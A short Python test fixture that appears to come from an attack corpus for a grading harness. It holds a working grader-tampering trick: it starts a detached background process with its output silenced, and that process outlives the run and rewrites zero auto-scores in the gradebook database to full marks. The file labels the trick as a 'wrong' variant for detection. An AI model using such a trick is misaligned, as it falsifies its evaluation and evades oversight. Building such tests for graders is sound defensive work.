"""A process that lives on writes full marks into the gradebook."""

from __future__ import annotations

from pathlib import Path

from attack_corpus import Variant, wrong

SETTLE_SECONDS = 6.0
WRITER = """
import os, sqlite3, time
end = time.time() + 20
path = os.path.abspath("../../../gradebook.db")
while time.time() < end:
    time.sleep(0.5)
    if not os.path.exists(path):
        continue
    try:
        book = sqlite3.connect(path, timeout=5)
        changed = book.execute("UPDATE grade SET manual_score = 5 WHERE auto_score = 0").rowcount
        book.commit()
        book.close()
    except sqlite3.Error:
        continue
    if changed:
        break
"""
TRICK = f"""
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", {WRITER!r}],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
"""


def variants(folder: Path) -> list[Variant]:
    return [wrong(TRICK)]
